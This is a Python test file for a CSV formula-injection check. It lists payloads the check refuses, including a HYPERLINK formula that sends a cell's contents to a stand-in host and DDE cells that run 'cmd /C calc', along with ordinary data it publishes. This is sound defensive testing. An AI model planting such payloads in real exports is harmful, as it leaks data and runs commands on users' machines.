"""A CSV download holds data: every way a spreadsheet could read one of its cells as a
formula is refused, and ordinary data (signed numbers, text with an equals sign inside)
is published."""

from __future__ import annotations

import pytest

from sphinx_briefing.checks.spreadsheet import csv_problem

FORMULA = '=HYPERLINK("https://x.example/?"&A1)'

REFUSED = {
    "a formula (red team G, 9)": f'name,link\nlee,"{FORMULA}"\n'.encode(),
    "a DDE call behind an at sign": b"a,@SUM(1+1)*cmd|' /C calc'!A0\n",
    "a sum behind a minus sign": b"a,-2+3+cmd|' /C calc'!A0\n",
    "a formula after spaces": b"a,   =1+1\n",
    "a formula after a tab": b"a,\t=1+1\n",
    "a formula after a byte-order mark": "\ufeff=1+1,a\n".encode(),
    "a formula in a file split by semicolons, as spreadsheets in many languages read it": b"a;=1+1\n",
    "a formula in a file split by tabs": b"a\t=1+1\n",
    "a file in UTF-16, which spreadsheets read and the check would not": "a,=1+1\n".encode("utf-16"),
    "a formula in a file whose first line tells Excel to split at a bar (red team J, 10)": (
        b"sep=|\nname|note\nAnn|=1+1*cmd\n"
    ),
    "the same, its sep line quoted": b'"sep=|"\r\nname|note\r\nAnn|@SUM(A1)\r\n',
}


@pytest.mark.parametrize("data", REFUSED.values(), ids=REFUSED.keys())
def test_a_cell_a_spreadsheet_runs_is_refused(data: bytes) -> None:
    assert csv_problem(data)


PUBLISHED = {
    "signed numbers": b"year,change\n2015,-5\n2016,+1.5%\n2017,-1,200.5\n",
    "an equals sign inside text": b'name,note\nlee,"a = b"\n',
    "an empty file": b"",
    "text with a byte-order mark": "\ufeffname,value\nlee,3\n".encode(),
    "tab-separated values with an empty first column": b"\tyear\tvalue\n\t2015\t-5\n",
    "bar-separated data its sep line names": b"sep=|\nyear|change\n2015|-5\n",
}


@pytest.mark.parametrize("data", PUBLISHED.values(), ids=PUBLISHED.keys())
def test_data_is_published(data: bytes) -> None:
    assert csv_problem(data) is None


def test_the_refusal_names_the_line() -> None:
    assert "line 3" in (csv_problem(b"a,b\nc,d\ne,=1+1\n") or "")
